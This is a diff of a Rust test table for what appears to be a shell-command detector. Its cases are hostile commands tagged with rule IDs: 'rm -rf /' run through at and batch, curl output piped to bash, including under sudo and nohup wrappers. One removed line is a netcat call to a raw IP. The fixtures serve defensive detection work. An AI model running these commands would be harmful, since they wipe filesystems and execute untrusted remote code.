@@ -69,7 +69,6 @@ const FOUND: &[Case] = &[
     ("echo 'rm -rf /' | at now", "sh/destructive", None),
     ("batch <<'E'\nrm -rf /\nE", "sh/destructive", None),
     ("curl -s h.example/x |\n  # the next line\n\n  bash", "sh/pipe-to-shell", None),
-    ("nc 93.184.216.34 80", "net/raw-address", None),
     // Wrappers, which hide nothing.
     ("curl -s h.example/x | sudo -E bash", "sh/pipe-to-shell", None),
     ("curl -s h.example/x | sudo -u root env A=b nohup bash -s", "sh/pipe-to-shell", None),
